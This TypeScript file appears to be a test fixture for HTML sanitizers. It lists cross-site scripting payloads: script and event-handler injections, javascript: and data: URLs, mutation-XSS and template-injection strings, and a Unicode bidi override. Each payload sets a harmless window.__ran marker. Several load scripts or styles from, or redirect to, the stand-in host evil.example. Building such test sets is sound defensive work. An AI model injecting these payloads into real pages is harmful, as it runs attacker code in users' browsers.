/**
 * Payloads that run, load or rewrite something where a page treats text as HTML or code. Each would set `window.__ran`.
 * Each of their elements has the attribute `data-hostile`, so that it is found even where the content policy blocks it.
 */
const RUN = "window.__ran=1";
const MARK = "data-hostile";

export const PAYLOADS: readonly string[] = [
  // Elements that run by themselves.
  `<script ${MARK}>${RUN}</script>`,
  `"><script ${MARK}>${RUN}</script>`,
  `</script><script ${MARK}>${RUN}</script>`,
  `</title><script ${MARK}>${RUN}</script>`,
  `</textarea><script ${MARK}>${RUN}</script>`,
  `</style><script ${MARK}>${RUN}</script>`,
  `<scr<script>ipt ${MARK}>${RUN}</scr</script>ipt>`,
  `<SCRIPT ${MARK} SRC=//evil.example/x.js></SCRIPT>`,
  `<img ${MARK} src=x onerror=${RUN}>`,
  `"><img ${MARK} src=x onerror=${RUN}>`,
  `'><img ${MARK} src=x onerror='${RUN}'>`,
  `<img ${MARK} src=x onerror&#61;${RUN}>`,
  `<svg ${MARK} onload=${RUN}>`,
  `<svg ${MARK}><script>${RUN}</script></svg>`,
  `<svg ${MARK}><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg ${MARK}><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<svg ${MARK}><use href="data:image/svg+xml,<svg id='x' onload='${RUN}'/>#x"/></svg>`,
  `<iframe ${MARK} srcdoc="<script>parent.__ran=1</script>"></iframe>`,
  `<iframe ${MARK} src="javascript:parent.__ran=1"></iframe>`,
  `<object ${MARK} data="data:text/html,<script>${RUN}</script>"></object>`,
  `<embed ${MARK} src="data:text/html,<script>${RUN}</script>">`,
  `<video ${MARK}><source onerror=${RUN}></video>`,
  `<details ${MARK} open ontoggle=${RUN}>x</details>`,
  `<input ${MARK} autofocus onfocus=${RUN}>`,
  `<body ${MARK} onload=${RUN}>`,
  `<base ${MARK} href="//evil.example/">`,
  `<meta ${MARK} http-equiv="refresh" content="0;url=//evil.example/">`,
  `<form ${MARK} action="javascript:${RUN}"><button>x</button></form>`,
  `<style ${MARK}>@import "//evil.example/x.css";</style>`,
  `<a ${MARK} href="javascript:${RUN}">x</a>`,
  `<template ${MARK}><img src=x onerror=${RUN}></template>`,
  // Texts that a second reading takes apart differently.
  `<noscript><p title="</noscript><img ${MARK} src=x onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img ${MARK} title="--><img src=x onerror=${RUN}>">`,
  `<svg></p><style><a id="</style><img ${MARK} src=x onerror=${RUN}>">`,
  `&lt;img ${MARK} src=x onerror=${RUN}&gt;`,
  `\\u003cimg ${MARK} src=x onerror=${RUN}\\u003e`,
  `<!--<img ${MARK} src="--><img ${MARK} src=x onerror=${RUN}>"`,
  // Addresses, alone, because they count from their first character.
  `javascript:${RUN}//`,
  ` \tjava\nscript:${RUN}//`,
  `data:text/html,<script ${MARK}>${RUN}</script>`,
  `vbscript:${RUN}`,
  // Templates of this and other languages.
  `{{constructor.constructor('${RUN}')()}} \${${RUN}} <%= ${RUN} %>`,
  `$t(common:save) {{name}} <1>x</1> <0 ${MARK}>x</0>`,
  // Reorders what follows it.
  `\u202e<img ${MARK} src=x onerror=${RUN}>\u2066`,
];

/** All in one text, behind one of those that count from the first character. */
export function combinePayloads(turn: number): string {
  const first = ["</script>", `javascript:${RUN}//`, "-->", "'}});"][turn % 4];
  return `${first} ${PAYLOADS.join(" ")}`;
}
